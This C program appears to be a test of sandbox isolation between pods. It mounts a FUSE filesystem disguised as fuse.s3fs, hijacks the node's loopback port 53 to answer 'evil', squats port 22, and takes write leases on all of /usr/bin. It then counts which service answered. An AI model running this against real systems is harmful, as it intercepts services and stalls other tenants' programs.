// A FUSE program in the sandbox of a pod that holds leases on programs of others, and a port with a
// service of the node.
//
// hostile_hold SOURCE TARGET ...   the FUSE program
// hostile_hold serve               the service of the node
// hostile_hold ask                 asks the service 40 times, and prints who answered
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

static int dev;

static void reply(unsigned long unique, int error, const void *body, size_t length) {
  struct fuse_out_header head = {sizeof head + length, error, unique};
  struct iovec parts[2] = {{&head, sizeof head}, {(void *)body, length}};
  if (writev(dev, parts, length ? 2 : 1) < 0 && errno != ENOENT) perror("writev");
}

static struct sockaddr_in port = {.sin_family = AF_INET};

static int bound(void) {
  int fd = socket(AF_INET, SOCK_DGRAM, 0), one = 1;
  setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one);
  if (bind(fd, (void *)&port, sizeof port)) perror("bind");
  return fd;
}

static void answer(int fd, const char *with) {
  for (;;) {
    char buffer[100];
    struct sockaddr_in from;
    socklen_t length = sizeof from;
    if (recvfrom(fd, buffer, sizeof buffer, 0, (void *)&from, &length) < 0) continue;
    sendto(fd, with, strlen(with), 0, (void *)&from, length);
  }
}

static void ask(void) {
  int good = 0, evil = 0;
  for (int i = 0; i < 40; i++) {
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    char buffer[100] = "?";
    connect(fd, (void *)&port, sizeof port);
    send(fd, "?", 1, 0);
    struct pollfd wait = {fd, POLLIN, 0};
    if (poll(&wait, 1, 500) == 1 && recv(fd, buffer, sizeof buffer, 0) > 0) {
      if (buffer[0] == 'g') good++;
      if (buffer[0] == 'e') evil++;
    }
    close(fd);
  }
  printf("good %d evil %d\n", good, evil);
}

int main(int argc, char **argv) {
  port.sin_port = htons(53);
  port.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (argc == 2 && !strcmp(argv[1], "serve")) answer(bound(), "good");
  if (argc == 2 && !strcmp(argv[1], "silent")) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(22)};
    if (bind(fd, (void *)&any, sizeof any) || listen(fd, 1000)) perror("listen");
    for (;;) pause();
  }
  if (argc == 2 && !strcmp(argv[1], "ask")) return ask(), 0;
  if (argc < 3) return 2;
  dev = open("/dev/fuse", O_RDWR);
  char options[100];
  snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", dev);
  if (mount(argv[1], argv[2], "fuse.s3fs", 0, options)) return 1;
  if (fork()) return 0;
  if (!fork()) answer(bound(), "evil");
  signal(SIGIO, SIG_IGN);
  DIR *programs = opendir("/usr/bin");
  for (struct dirent *entry; programs && (entry = readdir(programs));) {
    int fd = openat(dirfd(programs), entry->d_name, O_RDONLY);
    if (fd >= 0 && fcntl(fd, F_SETLEASE, F_WRLCK)) close(fd);
  }
  static char buffer[1 << 20];
  for (;;) {
    ssize_t length = read(dev, buffer, sizeof buffer);
    if (length < 0 && errno == ENODEV) return 0;
    if (length < 0) continue;
    struct fuse_in_header *in = (void *)buffer;
    struct fuse_init_out init = {.major = 7, .minor = 31, .max_write = 4096};
    struct fuse_attr_out root = {.attr = {.ino = 1, .nlink = 2, .mode = S_IFDIR | 0755}};
    struct fuse_statfs_out size = {0};
    switch (in->opcode) {
      case FUSE_INIT: reply(in->unique, 0, &init, sizeof init); break;
      case FUSE_GETATTR: reply(in->unique, 0, &root, sizeof root); break;
      case FUSE_STATFS: reply(in->unique, 0, &size, sizeof size); break;
      case FUSE_FORGET: break;
      default: reply(in->unique, -ENOSYS, NULL, 0);
    }
  }
}
